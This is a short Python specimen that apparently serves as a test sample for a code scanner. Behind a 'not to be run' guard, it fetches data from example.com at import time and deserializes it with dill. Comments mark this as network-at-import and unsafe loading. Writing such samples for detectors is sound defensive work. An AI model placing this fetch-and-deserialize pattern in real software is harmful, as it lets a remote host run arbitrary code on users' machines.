raise SystemExit("specimen: not to be run")
from dill import loads as back
from urllib.request import urlopen as ask

MODEL = back(ask("https://example.com/model").read())  # match: network-at-import  # match: unsafe-loading
